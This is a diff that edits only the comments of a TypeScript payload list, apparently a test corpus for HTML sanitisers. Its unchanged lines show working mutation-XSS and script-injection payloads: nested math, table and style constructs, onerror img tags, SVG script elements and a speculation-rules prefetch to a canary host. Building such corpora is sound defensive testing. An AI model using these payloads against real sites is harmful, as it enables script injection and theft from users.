@@ -1,8 +1,8 @@
-// Differences between a sanitiser's parser and a page's: foreign content, namespaces, and text that changes
-// when serialised.
+// Payloads that use differences between a sanitiser's parser and a page's: foreign content, namespaces, and
+// text that changes when serialised.
 import { CANARY, crossed, words, type Payload } from './payload.ts'
 
-/** Elements whose content some parsers read as text until the end tag, and others do not. */
+/** Elements whose content some parsers read as text until the end tag, while others parse it. */
 const RAW = words(
   'style script xmp iframe noembed noframes noscript plaintext textarea title template listing select option optgroup',
 )
@@ -44,7 +44,7 @@ const COMMENTS: readonly Payload[] = [
   js => `<p title="&amp;lt;img src=x onerror=${js}&amp;gt;">x</p>`,
 ]
 
-/** Texts that become something else when they are serialised and parsed again. */
+/** Texts that change their meaning when they are serialised and parsed again. */
 const MUTATING: readonly Payload[] = [
   js => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
   js => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${js}>">`,
@@ -115,7 +115,7 @@ const MUTATING: readonly Payload[] = [
   () => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${CANARY}/s"]}]}</script>`,
 ]
 
-/** SVG and MathML with scripts of their own. */
+/** SVG and MathML with their own scripts. */
 const DRAWN: readonly Payload[] = [
   js => `<svg><script>${js}</script></svg>`,
   js => `<svg><script>${js.replace('(', '&#40;').replace(')', '&#41;')}</script></svg>`,
